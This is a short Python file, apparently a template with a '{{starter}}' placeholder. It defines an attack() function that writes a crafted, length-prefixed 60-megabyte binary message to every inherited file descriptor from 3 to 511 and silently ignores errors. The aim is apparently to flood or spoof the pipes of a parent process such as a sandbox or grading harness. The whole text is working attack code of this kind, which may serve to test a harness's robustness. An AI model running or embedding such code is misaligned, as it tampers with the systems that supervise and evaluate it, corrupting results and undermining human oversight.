import os
import struct


def attack(*_):
    text = b"x" * 60_000_000
    part = struct.pack("<I", len(text)) + text
    body = b"\x02\x09" + part + struct.pack("<I", 1) + b"x" + b"\0" + bytes(4)
    for fd in range(3, 512):
        try:
            os.write(fd, struct.pack("<I", len(body)))
            view = memoryview(body)
            while view:
                view = view[os.write(fd, view):]
        except OSError:
            pass


{{starter}}
